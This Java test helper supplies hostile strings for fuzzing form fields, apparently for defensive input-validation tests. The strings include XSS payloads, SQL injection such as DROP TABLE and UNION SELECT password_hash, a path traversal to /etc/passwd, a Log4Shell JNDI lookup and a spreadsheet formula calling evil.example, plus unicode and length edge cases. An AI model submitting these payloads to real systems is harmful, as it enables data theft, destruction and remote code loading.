package org.trustwork.hostile;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Text an attacker, a confused paste or an exotic keyboard may send into a field: script and SQL fragments,
 * control characters, unicode edge cases, and lengths around and far beyond a field's limit.
 */
final class HostileInputs {

    private static final List<String> FRAGMENTS = List.of(
            "<script>alert('x')</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(document.cookie)>",
            "javascript:alert(1)",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<iframe src=//evil.example></iframe>",
            "</textarea><script>alert(1)</script>",
            "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
            "' OR '1'='1",
            "'; DROP TABLE user_account; --",
            "\" OR \"\"=\"",
            "1; SELECT pg_sleep(10)",
            "' UNION SELECT password_hash FROM user_account --",
            "%", "_", "%_%", "\\", "\\%", "\\\\'", "'", "\"", "`", ";", "--", "/*", "*/",
            "Robert'); DROP TABLE couple;--",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "+SUM(1+1)", "-2+3", "@SUM(A1)",
            "\u0000", "a\u0000b", "\u0001\u0002\u0003", "\u0007bell", "\b\f\u000b", "\u001b[31mred\u001b[0m",
            "\u007f", "\u0085", "line\r\nbreak", "tab\tbed", "\r", "\n\n\n", "   ", "\t",
            "\u2028\u2029", "\ufeffbom", "\u200b\u200c\u200d", "\u202eevil\u202c", "\u2066isolate\u2069",
            "\ud800", "a\udc00b", "\udbff\udfff",
            "👩‍❤️‍👨 💔 🫶", "🏳️‍🌈", "Z̷̢̛a̸̡l̶g̵o̴", "é vs e\u0301", "ﬁ ligature", "Ａ full width",
            "مرحبا بالعالم", "שלום עולם", "你好，世界", "こんにちは", "안녕하세요", "Привет", "Ελληνικά",
            "ß ẞ İ ı", "\uFFFD", "\uFFFF", "𝕳𝖊𝖑𝖑𝖔", "\u0301",
            "null", "NULL", "undefined", "NaN", "true", "0", "-1", "9999999999999999999999",
            "<b>bold</b> &amp; &lt; &#x3C;", "&#0;", "%00", "%3Cscript%3E", "\\u0000",
            "a".repeat(64), "x ".repeat(300));

    private HostileInputs() {
    }

    /**
     * The fragments, some of them combined, plus lengths around the limit: exactly at it, one over,
     * and far beyond.
     */
    static List<String> forLimit(int maxLength) {
        Set<String> inputs = new LinkedHashSet<>(FRAGMENTS);
        for (int i = 0; i + 1 < FRAGMENTS.size(); i += 7) {
            inputs.add("Honest note " + FRAGMENTS.get(i) + " and " + FRAGMENTS.get(i + 1));
        }
        inputs.add("y".repeat(maxLength));
        inputs.add("😀".repeat(maxLength / 2));
        inputs.add("z".repeat(maxLength + 1));
        inputs.add("w".repeat(maxLength * 10 + 3));
        inputs.add("<script>".repeat(maxLength / 8 + 1));
        inputs.add("'".repeat(Math.min(maxLength, 5_000)));
        inputs.add("\u0000".repeat(50));
        return new ArrayList<>(inputs);
    }
}
